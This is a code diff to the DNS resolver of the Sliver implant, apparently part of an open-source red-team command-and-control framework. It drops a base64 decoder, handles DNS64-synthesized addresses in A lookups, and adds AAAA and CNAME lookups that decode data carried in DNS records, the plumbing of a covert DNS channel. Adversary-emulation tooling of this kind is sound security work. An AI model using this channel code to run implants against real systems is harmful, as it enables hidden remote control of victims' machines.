@@ -26,21 +26,19 @@ import (
 	// {{if .Config.Debug}}
 	"log"
 	// {{end}}
-
-	"github.com/bishopfox/sliver/implant/sliver/encoders"
 )
 
+// nat64Prefix - The well-known prefix DNS64 resolvers on IPv6-only networks use to
+// synthesize AAAA records from A records, the IPv4 address is the last 4 bytes
+var nat64Prefix = &net.IPNet{IP: net.ParseIP("64:ff9b::"), Mask: net.CIDRMask(96, 128)}
+
 // NewSystemResolver - Initialize a new system resolver
 func NewSystemResolver() DNSResolver {
-	return &SystemResolver{
-		base64: encoders.Base64{},
-	}
+	return &SystemResolver{}
 }
 
 // SystemResolver -
-type SystemResolver struct {
-	base64 encoders.Base64
-}
+type SystemResolver struct{}
 
 // Address - Returns the address of the resolver
 func (r *SystemResolver) Address() string {
@@ -62,14 +60,34 @@ func (r *SystemResolver) A(domain string) ([]byte, time.Duration, error) {
 	for _, ip := range ips {
 		if ip.To4() != nil {
 			addrs = append(addrs, ip.To4()...)
-		}
-		if ip.To16() != nil {
-			addrs = append(addrs, ip.To16()...)
+		} else if nat64Prefix.Contains(ip) {
+			addrs = append(addrs, ip.To16()[12:]...) // Synthesized by a DNS64 resolver from the A record
 		}
 	}
 	return addrs, rtt, nil
 }
 
+// AAAA - Query for AAAA records
+func (r *SystemResolver) AAAA(domain string) ([]byte, time.Duration, error) {
+	// {{if .Config.Debug}}
+	log.Printf("[dns] %s->AAAA record of %s?", r.Address(), domain)
+	// {{end}}
+	started := time.Now()
+	ips, err := net.LookupIP(domain)
+	rtt := time.Since(started)
+	if err != nil {
+		return nil, rtt, err
+	}
+	records := [][]byte{}
+	for _, ip := range ips {
+		if ip.To4() == nil && ip.To16() != nil && !nat64Prefix.Contains(ip) {
+			records = append(records, ip.To16())
+		}
+	}
+	data, err := decodeAAAA(records)
+	return data, rtt, err
+}
+
 // TXT - Query for TXT records
 func (r *SystemResolver) TXT(domain string) ([]byte, time.Duration, error) {
 	// {{if .Config.Debug}}
@@ -81,6 +99,16 @@ func (r *SystemResolver) TXT(domain string) ([]byte, time.Duration, error) {
 	if err != nil {
 		return nil, rtt, err
 	}
-	data, err := r.base64.Decode([]byte(strings.Join(txts, "")))
-	return data, rtt, err
+	return []byte(strings.Join(txts, "")), rtt, nil
+}
+
+// CNAME - Query for a CNAME record, returns the target of the record
+func (r *SystemResolver) CNAME(domain string) (string, time.Duration, error) {
+	// {{if .Config.Debug}}
+	log.Printf("[dns] %s->CNAME record of %s?", r.Address(), domain)
+	// {{end}}
+	started := time.Now()
+	target, err := net.LookupCNAME(domain)
+	rtt := time.Since(started)
+	return target, rtt, err
 }